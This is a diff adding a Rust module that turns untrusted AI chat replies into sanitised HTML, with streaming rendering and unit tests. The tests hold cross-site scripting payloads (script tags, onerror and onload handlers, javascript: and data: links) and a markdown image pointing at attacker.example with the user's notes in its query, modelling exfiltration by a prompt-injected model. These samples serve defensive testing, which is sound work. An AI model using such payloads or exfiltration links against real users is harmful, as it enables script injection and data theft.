@@ -1,0 +1,503 @@
+//! Replies as people expect to read them: CommonMark with GitHub's tables, task lists and
+//! strikethrough, turned into HTML that is safe to put in the page.
+//!
+//! Model output is untrusted (a poisoned document can steer it), so nothing it writes becomes
+//! live markup: raw HTML is shown as text, a link keeps only an `http`, `https` or `mailto`
+//! address and opens in a new tab with no referrer, and an image is never fetched — it becomes a
+//! link that names its host. Every attribute this module writes is escaped; the page's CSP is
+//! the second line.
+//!
+//! Streaming renders only what changed: [`render_tail`] splits a growing reply into blocks that
+//! can no longer change (rendered once) and the open block at the end (rendered again with each
+//! token). The same code renders a whole reply on the server, so both agree.
+
+use pulldown_cmark::{
+    Alignment, CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd,
+};
+use pulldown_cmark_escape::{escape_href, escape_html};
+use serde::{Deserialize, Serialize};
+
+fn options() -> Options {
+    Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS
+}
+
+/// A whole reply as safe HTML.
+pub fn render(text: &str) -> String {
+    let mut html = String::with_capacity(text.len() + text.len() / 2);
+    pulldown_cmark::html::push_html(&mut html, Safe::new(Parser::new_ext(text, options())));
+    html
+}
+
+/// The rendering of the part of a reply after what is already shown.
+#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
+pub struct TailRender {
+    /// How many bytes at the start of the tail are final: their blocks cannot change, whatever
+    /// text follows.
+    pub settled_len: usize,
+    /// Those blocks, rendered; shown once and never rendered again.
+    pub settled_html: String,
+    /// The rest, rendered; replaced with each token.
+    pub open_html: String,
+    /// The text defines a link reference (`[x]: url`), which changes links anywhere in the
+    /// reply: the reader renders the whole reply each time from now on, settling nothing.
+    pub whole: bool,
+}
+
+/// Renders the unsettled end of a reply (`tail`, starting at a block boundary). With
+/// `settle`, blocks that no later text can change are split off, so the next call starts after
+/// them. Appending the pieces of successive calls gives exactly [`render`] of the whole text.
+pub fn render_tail(tail: &str, settle: bool) -> TailRender {
+    let whole = defines_reference(tail);
+    let settled_len = if settle && !whole {
+        settled_len(tail)
+    } else {
+        0
+    };
+    let (settled, open) = tail.split_at(settled_len);
+    TailRender {
+        settled_len,
+        settled_html: render(settled),
+        open_html: render(open),
+        whole,
+    }
+}
+
+/// Where the last top-level block starts, if every block before it is final. Only whole lines
+/// count: a partial last line can still turn into anything (`#` becomes `#tag`, a paragraph's
+/// continuation), and a block is final once a later complete line has started another block
+/// at the top level — CommonMark decides block structure line by line, and nothing after such
+/// a line reaches back (link references aside, see [`TailRender::whole`]).
+fn settled_len(tail: &str) -> usize {
+    let complete = match tail.rfind('\n') {
+        Some(i) => &tail[..=i],
+        None => return 0,
+    };
+    let mut depth = 0usize;
+    let mut last_top_level_start = 0;
+    for (event, range) in Parser::new_ext(complete, options()).into_offset_iter() {
+        match event {
+            Event::Start(_) => {
+                if depth == 0 {
+                    last_top_level_start = range.start;
+                }
+                depth += 1;
+            }
+            Event::End(_) => depth = depth.saturating_sub(1),
+            // Blocks with no Start/End pair.
+            Event::Rule | Event::Html(_) if depth == 0 => last_top_level_start = range.start,
+            _ => {}
+        }
+    }
+    // A block's range starts at its first character; settle whole lines only, so the next
+    // parse begins at a line start with the same indentation.
+    complete[..last_top_level_start]
+        .rfind('\n')
+        .map_or(0, |i| i + 1)
+}
+
+/// A line that may define a link reference: `[label]: destination`, up to three spaces in.
+fn defines_reference(text: &str) -> bool {
+    text.lines().any(|line| {
+        let content = line.trim_start_matches(' ');
+        line.len() - content.len() <= 3 && content.starts_with('[') && content.contains("]:")
+    })
+}
+
+/// The URL schemes a link may keep. Anything else (`javascript:`, `data:`, `vbscript:`, a
+/// relative path into Rill) is dropped and the link's text shown alone.
+fn safe_href(url: &str) -> Option<&str> {
+    let trimmed = url.trim();
+    let lower = trimmed.get(..8).unwrap_or(trimmed).to_ascii_lowercase();
+    ["https://", "http://", "mailto:"]
+        .iter()
+        .any(|scheme| lower.starts_with(scheme))
+        .then_some(trimmed)
+}
+
+/// The host an image would have been fetched from, to name it.
+fn host_of(url: &str) -> &str {
+    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
+    let authority = rest.split(['/', '?', '#']).next().unwrap_or(rest);
+    authority.rsplit('@').next().unwrap_or(authority)
+}
+
+/// The leading letters, digits and `+-_.#` of a code block's language, for its label and class.
+fn language_label(info: &str) -> String {
+    info.split_whitespace()
+        .next()
+        .unwrap_or_default()
+        .chars()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '_' | '.' | '#'))
+        .take(32)
+        .collect()
+}
+
+/// What a link or image opened, so its end closes the same thing.
+enum Opened {
+    Anchor,
+    Nothing,
+    /// An image: its alt text is being shown inside a link to it.
+    ImageLink,
+    ImageText,
+}
+
+/// The event filter that makes model output safe: raw HTML to text, links and images rewritten,
+/// code blocks given a header with the language and a Copy button.
+struct Safe<'a, I: Iterator<Item = Event<'a>>> {
+    inner: I,
+    opened: Vec<Opened>,
+    /// The open table's column alignments, the next cell's column, and whether its body began.
+    table: Vec<Alignment>,
+    cell: usize,
+    in_head: bool,
+    body_open: bool,
+    /// Events to send before the next one from `inner`.
+    queued: std::collections::VecDeque<Event<'a>>,
+}
+
+impl<'a, I: Iterator<Item = Event<'a>>> Safe<'a, I> {
+    fn new(inner: I) -> Self {
+        Self {
+            inner,
+            opened: Vec::new(),
+            table: Vec::new(),
+            cell: 0,
+            in_head: false,
+            body_open: false,
+            queued: std::collections::VecDeque::new(),
+        }
+    }
+
+    /// Tables are written here rather than by pulldown-cmark, whose column alignment is an
+    /// inline `style` the CSP refuses; a class does the same.
+    fn table(&mut self, event: &Event<'a>) -> Option<Event<'a>> {
+        let html = match event {
+            Event::Start(Tag::Table(alignments)) => {
+                self.table.clone_from(alignments);
+                self.body_open = false;
+                "<table>".to_owned()
+            }
+            Event::End(TagEnd::Table) => {
+                let end = if self.body_open {
+                    "</tbody></table>\n"
+                } else {
+                    "</table>\n"
+                };
+                end.to_owned()
+            }
+            Event::Start(Tag::TableHead) => {
+                self.in_head = true;
+                self.cell = 0;
+                "<thead><tr>".to_owned()
+            }
+            Event::End(TagEnd::TableHead) => {
+                self.in_head = false;
+                "</tr></thead>".to_owned()
+            }
+            Event::Start(Tag::TableRow) => {
+                self.cell = 0;
+                let start = if self.body_open {
+                    "<tr>"
+                } else {
+                    "<tbody><tr>"
+                };
+                self.body_open = true;
+                start.to_owned()
+            }
+            Event::End(TagEnd::TableRow) => "</tr>".to_owned(),
+            Event::Start(Tag::TableCell) => {
+                let tag = if self.in_head { "th" } else { "td" };
+                let align = match self.table.get(self.cell) {
+                    Some(Alignment::Left) => " class=\"align-left\"",
+                    Some(Alignment::Center) => " class=\"align-center\"",
+                    Some(Alignment::Right) => " class=\"align-right\"",
+                    Some(Alignment::None) | None => "",
+                };
+                format!("<{tag}{align}>")
+            }
+            Event::End(TagEnd::TableCell) => {
+                self.cell += 1;
+                if self.in_head { "</th>" } else { "</td>" }.to_owned()
+            }
+            _ => return None,
+        };
+        Some(Self::markup(html))
+    }
+
+    fn markup(html: String) -> Event<'a> {
+        Event::InlineHtml(CowStr::from(html))
+    }
+
+    fn start_link(&mut self, dest_url: &str, title: &str) -> Event<'a> {
+        let Some(href) = safe_href(dest_url) else {
+            self.opened.push(Opened::Nothing);
+            return Event::Text(CowStr::Borrowed(""));
+        };
+        self.opened.push(Opened::Anchor);
+        Self::markup(anchor(href, title, None))
+    }
+
+    fn start_image(&mut self, dest_url: &str) -> Event<'a> {
+        // Inside a link, the alt text alone: an anchor may not hold another.
+        let in_link = self
+            .opened
+            .iter()
+            .any(|o| matches!(o, Opened::Anchor | Opened::ImageLink));
+        let Some(href) = safe_href(dest_url).filter(|_| !in_link) else {
+            self.opened.push(Opened::ImageText);
+            return Self::markup("<span class=\"image-blocked\">".into());
+        };
+        self.opened.push(Opened::ImageLink);
+        let mut html = anchor(href, "", Some("image-link"));
+        html.push_str("<span class=\"image-host\">Image from ");
+        let _ = escape_html(&mut html, host_of(href));
+        html.push_str(":</span> ");
+        Self::markup(html)
+    }
+
+    fn end_link_or_image(&mut self) -> Event<'a> {
+        match self.opened.pop() {
+            Some(Opened::Anchor) | Some(Opened::ImageLink) => Self::markup("</a>".into()),
+            Some(Opened::ImageText) => Self::markup("</span>".into()),
+            Some(Opened::Nothing) | None => Event::Text(CowStr::Borrowed("")),
+        }
+    }
+}
+
+/// `<a href=… target=_blank rel="noopener noreferrer">`, every value escaped.
+fn anchor(href: &str, title: &str, class: Option<&str>) -> String {
+    let mut html = String::from("<a href=\"");
+    let _ = escape_href(&mut html, href);
+    html.push('"');
+    if !title.is_empty() {
+        html.push_str(" title=\"");
+        let _ = escape_html(&mut html, title);
+        html.push('"');
+    }
+    if let Some(class) = class {
+        html.push_str(" class=\"");
+        html.push_str(class);
+        html.push('"');
+    }
+    html.push_str(" target=\"_blank\" rel=\"noopener noreferrer\">");
+    html
+}
+
+impl<'a, I: Iterator<Item = Event<'a>>> Iterator for Safe<'a, I> {
+    type Item = Event<'a>;
+
+    fn next(&mut self) -> Option<Event<'a>> {
+        if let Some(event) = self.queued.pop_front() {
+            return Some(event);
+        }
+        let event = self.inner.next()?;
+        if let Some(table) = self.table(&event) {
+            return Some(table);
+        }
+        Some(match event {
+            // Raw HTML is shown as the text it is. An HTML block keeps its lines, as code.
+            Event::Html(html) | Event::InlineHtml(html) => Event::Text(html),
+            Event::Start(Tag::HtmlBlock) => Self::markup("<pre class=\"raw-html\"><code>".into()),
+            Event::End(TagEnd::HtmlBlock) => Self::markup("</code></pre>\n".into()),
+            Event::Start(Tag::Link {
+                link_type,
+                dest_url,
+                title,
+                ..
+            }) => {
+                let dest = match link_type {
+                    LinkType::Email => format!("mailto:{dest_url}"),
+                    _ => dest_url.to_string(),
+                };
+                self.start_link(&dest, &title)
+            }
+            Event::End(TagEnd::Link) | Event::End(TagEnd::Image) => self.end_link_or_image(),
+            Event::Start(Tag::Image { dest_url, .. }) => self.start_image(&dest_url),
+            Event::Start(Tag::CodeBlock(kind)) => {
+                let language = match &kind {
+                    CodeBlockKind::Fenced(info) => language_label(info),
+                    CodeBlockKind::Indented => String::new(),
+                };
+                let mut html = String::from("<div class=\"code-block\"><div class=\"code-head\">");
+                html.push_str("<span class=\"code-language\">");
+                html.push_str(if language.is_empty() {
+                    "text"
+                } else {
+                    &language
+                });
+                html.push_str("</span><button type=\"button\" class=\"copy-code\">Copy</button></div><pre><code");
+                if !language.is_empty() {
+                    html.push_str(" class=\"language-");
+                    html.push_str(&language);
+                    html.push('"');
+                }
+                html.push('>');
+                Self::markup(html)
+            }
+            Event::End(TagEnd::CodeBlock) => Self::markup("</code></pre></div>\n".into()),
+            other => other,
+        })
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// Streams `text` in pieces ending at each of `cuts`, as the page does, and returns what the
+    /// page would show at the end: every settled piece, then the open one.
+    fn stream(text: &str, cuts: impl IntoIterator<Item = usize>) -> String {
+        let mut settled = String::new();
+        let mut settled_len = 0;
+        let mut whole = false;
+        let mut open = String::new();
+        for cut in cuts.into_iter().chain([text.len()]) {
+            if whole {
+                open = render_tail(&text[..cut], false).open_html;
+                continue;
+            }
+            let piece = render_tail(&text[settled_len..cut], true);
+            if piece.whole {
+                whole = true;
+                settled.clear();
+                settled_len = 0;
+                open = render_tail(&text[..cut], false).open_html;
+                continue;
+            }
+            settled.push_str(&piece.settled_html);
+            settled_len += piece.settled_len;
+            open = piece.open_html;
+        }
+        settled + &open
+    }
+
+    const TRICKY: &[&str] = &[
+        "# Title\n\nA paragraph with **bold**, _em_, `code` and ~~gone~~.\n\nAnother one\nover two lines.\n",
+        "- one\n- two\n  - nested\n  - nested two\n\n    still two\n- three\n\nAfter the list.\n",
+        "1. first\n2. second\n\n3. third (now the list is loose)\n\nend\n",
+        "Text\n```rust\nfn main() {\n\n    println!(\"hi\");\n}\n```\nafter\n\n~~~\nopen fence never closed\n\nstill code\n",
+        "| a | b |\n|---|:-:|\n| 1 | 2 |\n| 3 | 4 |\n\nNot a table\n| x |\n",
+        "> quote\nlazy continuation\n> > nested\n\n> another\n\n---\nSetext\n===\n\n* [ ] task\n* [x] done\n",
+        "Para\n# heading interrupts\npara\n    not code (continuation)\n\n    indented code\n\n#nospace\n",
+        "<div>\n*raw html block*\n</div>\n\nText <b>inline</b> & more\n",
+        "See [the docs](https://example.com/a?b=1&c=2 \"T\") and <https://rill.dev>.\n\n![alt text](https://img.example.net/x.png)\n",
+        "[ref]: https://example.com\n\nUses [ref] before and after.\n",
+        "A\n\n\n\nB\n\n-\n\n- \n+ x\n\n1) y\n",
+    ];
+
+    #[test]
+    fn streaming_at_every_split_point_renders_as_the_whole_text() {
+        for doc in TRICKY {
+            let whole = render(doc);
+            let boundaries: Vec<usize> = (1..doc.len())
+                .filter(|&i| doc.is_char_boundary(i))
+                .collect();
+            // Every single split point, then every point at once (one token a character).
+            for &cut in &boundaries {
+                assert_eq!(stream(doc, [cut]), whole, "split at {cut} of {doc:?}");
+            }
+            assert_eq!(
+                stream(doc, boundaries.iter().copied()),
+                whole,
+                "char by char: {doc:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn settled_blocks_are_not_rendered_again() {
+        // The last whole line could still be followed by anything, so only blocks before the
+        // last one that starts on a whole line settle.
+        let doc = "First paragraph.\n\nSecond paragraph.\n\nThird, still open";
+        let piece = render_tail(doc, true);
+        assert_eq!(&doc[..piece.settled_len], "First paragraph.\n\n");
+        assert_eq!(piece.settled_html, "<p>First paragraph.</p>\n");
+        assert_eq!(
+            piece.open_html,
+            "<p>Second paragraph.</p>\n<p>Third, still open</p>\n"
+        );
+        // An unfinished fence renders as code while it streams.
+        let piece = render_tail("Here:\n\n```py\nprint(1)\n", true);
+        assert!(piece
+            .open_html
+            .contains("<code class=\"language-py\">print(1)\n</code>"));
+    }
+
+    #[test]
+    fn hostile_markup_stays_text() {
+        let hostile = [
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<svg onload=alert(1)>",
+            "<iframe src=\"https://evil.example\"></iframe>",
+            "<style>body{display:none}</style>",
+            "<a href=\"javascript:alert(1)\">x</a>",
+            "text <b onclick=alert(1)>b</b>",
+        ];
+        for payload in hostile {
+            for doc in [
+                payload.to_owned(),
+                format!("para\n\n{payload}\n"),
+                format!("a {payload} b"),
+            ] {
+                let html = render(&doc);
+                assert!(!html.contains("<script"), "{html}");
+                assert!(!html.contains("<img"), "{html}");
+                assert!(!html.contains("<svg"), "{html}");
+                assert!(!html.contains("<iframe"), "{html}");
+                assert!(!html.contains("<style"), "{html}");
+                assert!(!html.contains("<b "), "{html}");
+                assert!(!html.contains("<a href=\"javascript"), "{html}");
+            }
+        }
+    }
+
+    #[test]
+    fn links_keep_safe_addresses_only_and_open_in_a_new_tab() {
+        let html = render("[a](https://example.com/x?y=\"z\") [b](javascript:alert(1)) [c](JaVaScRiPt:x) [d](data:text/html,<script>) [e](vbscript:x) [f](/admin) <mailto:someone@example.com>");
+        assert!(html.contains(
+            "<a href=\"https://example.com/x?y=%22z%22\" target=\"_blank\" rel=\"noopener noreferrer\">a</a>"
+        ));
+        for dropped in ["javascript", "JaVaScRiPt", "data:", "vbscript", "/admin"] {
+            assert!(!html.contains(&format!("href=\"{dropped}")), "{html}");
+        }
+        assert!(html.contains(" b ") && html.contains(" c ") && html.contains(" f "));
+        assert!(html.contains("href=\"mailto:someone@example.com\""));
+    }
+
+    #[test]
+    fn images_become_links_that_name_their_host() {
+        let html = render("![secret: the user's notes](https://attacker.example:8080/log?q=abc)");
+        assert!(!html.contains("<img"), "{html}");
+        assert!(html.contains("href=\"https://attacker.example:8080/log?q=abc\""));
+        assert!(html.contains("Image from attacker.example:8080:"));
+        assert!(
+            html.contains("secret: the user&#39;s notes")
+                || html.contains("secret: the user's notes")
+        );
+        let html = render("![x](javascript:alert(1))");
+        assert!(!html.contains("href"), "{html}");
+    }
+
+    #[test]
+    fn tables_align_by_class_not_by_inline_style() {
+        let html = render("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |\n");
+        assert_eq!(
+            html,
+            "<table><thead><tr><th class=\"align-left\">a</th><th class=\"align-center\">b</th><th class=\"align-right\">c</th></tr></thead><tbody><tr><td class=\"align-left\">1</td><td class=\"align-center\">2</td><td class=\"align-right\">3</td></tr></tbody></table>\n"
+        );
+        assert!(!render("|a|\n|-|\n").contains("style"));
+    }
+
+    #[test]
+    fn code_blocks_carry_their_language_and_a_copy_button() {
+        let html = render("```rust\"><script>\nlet a = 1 < 2;\n```\n");
+        assert!(
+            html.contains("<span class=\"code-language\">rust</span>"),
+            "{html}"
+        );
+        assert!(html.contains("<button type=\"button\" class=\"copy-code\">Copy</button>"));
+        assert!(html.contains("let a = 1 &lt; 2;"));
+        assert!(!html.contains("<script"));
+    }
+}
